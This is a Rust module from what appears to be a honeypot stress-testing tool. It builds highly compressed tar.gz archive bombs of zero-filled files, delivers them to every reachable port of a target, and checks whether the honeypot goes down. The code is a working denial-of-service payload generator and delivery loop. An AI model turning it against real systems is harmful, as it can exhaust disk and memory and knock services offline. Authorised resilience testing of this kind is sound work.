// SPDX-License-Identifier: PMPL-1.0-or-later

//! Archive bomb: deliver highly compressed tarballs and check the honeypot stays up.

use crate::attack::probe;
use crate::attack::profile::TarBombSettings;
use crate::attack::{AttackModule, StopSignal};
use crate::types::*;
use anyhow::{bail, Context, Result};
use flate2::write::GzEncoder;
use flate2::Compression;
use std::io::{self, Read};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tracing::{debug, info};

const MB: u64 = 1024 * 1024;

pub struct TarBomb {
    target: Arc<HoneypotTarget>,
    settings: TarBombSettings,
    connect_timeout: Duration,
}

impl TarBomb {
    pub fn new(target: Arc<HoneypotTarget>, settings: TarBombSettings, connect_timeout: Duration) -> Self {
        Self {
            target,
            settings,
            connect_timeout,
        }
    }
}

/// Build a gzip-compressed tar archive of `entries` zero-filled files of `entry_size` bytes each.
pub fn build_bomb(entries: usize, entry_size: u64) -> Result<Vec<u8>> {
    let encoder = GzEncoder::new(Vec::new(), Compression::best());
    let mut builder = tar::Builder::new(encoder);
    for idx in 0..entries {
        let mut header = tar::Header::new_gnu();
        header.set_size(entry_size);
        header.set_mode(0o644);
        header.set_mtime(0);
        builder
            .append_data(
                &mut header,
                format!("payload-{:03}.bin", idx),
                io::repeat(0).take(entry_size),
            )
            .with_context(|| format!("appending bomb entry {}", idx))?;
    }
    let encoder = builder.into_inner().context("finishing tar archive")?;
    encoder.finish().context("finishing gzip stream")
}

impl AttackModule for TarBomb {
    fn kind(&self) -> AttackKind {
        AttackKind::ArchiveBomb
    }

    fn run(&self, stop: &StopSignal) -> Result<AttackResult> {
        let addrs = probe::reachable(&self.target, self.connect_timeout)?;
        let start = Instant::now();
        let bomb = build_bomb(
            self.settings.entries_per_bomb,
            self.settings.entry_size_mb * MB,
        )?;
        info!(
            target = %self.target.ip,
            ports = addrs.len(),
            bombs = self.settings.bombs,
            compressed_bytes = bomb.len(),
            "delivering archive bombs"
        );

        let mut sent = 0_u64;
        let mut down = Vec::new();
        for bomb_index in 0..self.settings.bombs {
            if stop.is_raised() {
                bail!("archive bomb run interrupted after {} bombs", sent);
            }
            for addr in &addrs {
                if let Err(err) = probe::send_payload(addr, &bomb, self.connect_timeout) {
                    debug!(%addr, bomb = bomb_index, error = %err, "bomb not delivered");
                }
            }
            sent += 1;

            down = probe::down_ports(&addrs, self.connect_timeout);
            if !down.is_empty() {
                break;
            }
        }

        let elapsed = start.elapsed().as_secs_f64();
        let result = if down.is_empty() {
            AttackResult::new(
                false,
                format!(
                    "Honeypot stayed available after {} archive bombs ({} MB unpacked each)",
                    sent,
                    self.settings.entries_per_bomb as u64 * self.settings.entry_size_mb
                ),
                elapsed,
                sent,
            )
        } else {
            AttackResult::new(
                true,
                format!(
                    "Honeypot stopped responding on {} after {} archive bombs",
                    probe::join_addrs(&down),
                    sent
                ),
                elapsed,
                sent,
            )
        };
        Ok(result)
    }
}
